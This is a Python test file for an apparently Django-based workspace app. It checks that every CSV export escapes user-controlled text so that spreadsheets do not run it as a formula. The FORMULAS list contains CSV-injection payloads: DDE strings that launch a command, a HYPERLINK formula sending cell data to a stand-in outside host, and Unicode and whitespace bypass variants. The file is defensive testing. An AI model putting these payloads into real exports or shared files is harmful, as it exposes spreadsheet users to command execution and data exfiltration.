"""No exported sheet starts a program where it is opened [S14]: every text that somebody can choose, in every CSV.

The list of exports is read from the API's own description; a new one without a case here fails.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from random import Random

import pytest
from django.test import AsyncClient
from django.utils import timezone
from limits import parse

from billing.models import Attempt
from nexus_site.api import api
from tests.billing.test_dashboard import made
from workspaces import limits
from workspaces.access import Actor
from workspaces.audit.recording import record
from workspaces.database import in_database
from workspaces.sheets import cell, lines
from workspaces.tokens import token_create

Said = Callable[[str], None]
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://elsewhere.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff201+1",
    '"=1+1',
    ";=1+1",
    "-1",
    "+1",
)
NUMBER = re.compile(r"-?\d+(\.\d+)?")
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"
EXPORTS = {"/api/usage/export.csv", "/api/audit/export.csv"}


def is_formula(text: str) -> bool:
    """As a spreadsheet sees it, which drops what cannot be seen before it looks."""
    seen = text.lstrip("\ufeff\u200b\u200c\u200d\u2060 \t\r\n\u00a0\u3000")
    return bool(seen) and seen[0] in SIGNS and not NUMBER.fullmatch(text)


def test_it_has_a_case_for_every_sheet():
    found = {
        path
        for path, methods in api.get_openapi_schema()["paths"].items()
        for operation in methods.values()
        for answer in operation["responses"].values()
        if "text/csv" in answer.get("content", {})
    }
    assert found == EXPORTS


@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_a_text_that_would_be_a_formula_stays_a_text(text):
    ((found,),) = csv.reader(io.StringIO(lines([[text]]), newline=""))
    assert not is_formula(found)
    assert found.endswith(text), "nothing of it is lost"


@pytest.mark.parametrize("value", ["", "a=b", "x@example.org", "0.5", "-0.5", "-12", 7, -7, None, True])
def test_what_is_none_stays_as_it_is(value):
    assert cell(value) == {None: "", True: "true"}.get(value, str(value))


async def _rows(token: str, path: str) -> list[dict[str, str]]:
    response = await AsyncClient().get(path, headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 200, path
    body = b"".join([part async for part in response.streaming_content]).decode()  # type: ignore[attr-defined]
    return list(csv.DictReader(io.StringIO(body, newline="")))


@pytest.mark.django_db(transaction=True)
async def test_no_cell_of_any_sheet_is_a_formula(alice: Actor, monkeypatch: pytest.MonkeyPatch, told: Said):
    """Each formula as the name of a person, of a token, of a model, of an agent, of what was done to what."""
    monkeypatch.setattr(limits, "LIMITS", dict.fromkeys(limits.LIMITS, parse("1000000/minute")))

    def prepare(text: str) -> str:
        alice.user.name = text
        alice.user.save()
        record(
            "exported", actor=alice, target_type=text[:30], target_id=text, target_name=text,
            metadata={"format": text},
        )  # fmt: skip
        record("exported", workspace_id=alice.workspace_id, user_id=alice.user_id, agent_slug=text[:60])
        made(
            alice, Random(1), timezone.now(),
            agent_slug=text[:60], provider=text[:30], model=text, error_code=text[:30], stop_reason=text[:30],
            status=Attempt.Status.SETTLED,
        ).save()  # fmt: skip
        return token_create(user=alice.user, workspace=alice.workspace, name=text).text

    looked = defused = 0
    for text in FORMULAS:
        token = await in_database(prepare, text)
        for path in sorted(EXPORTS):
            rows = await _rows(token, path)
            assert rows, path
            cells = [(name, value) for row in rows for name, value in row.items()]
            assert [(path, name, value) for name, value in cells if is_formula(value)] == []
            looked += len(cells)
            defused += sum(value.startswith("'") for _, value in cells)
    assert defused > len(FORMULAS) * 4, "the formulas must be there, or nothing was looked at"
    # Each export is an event itself, by that token.
    events = await _rows(token, "/api/audit/export.csv")
    assert any(json.loads(row["metadata"]).get("format") == FORMULAS[0] for row in events)
    assert any(row["tokenName"].startswith("'=cmd") for row in events)
    told(f"sheets: {len(EXPORTS)} exports, {looked} cells, {defused} texts defused, no formula")
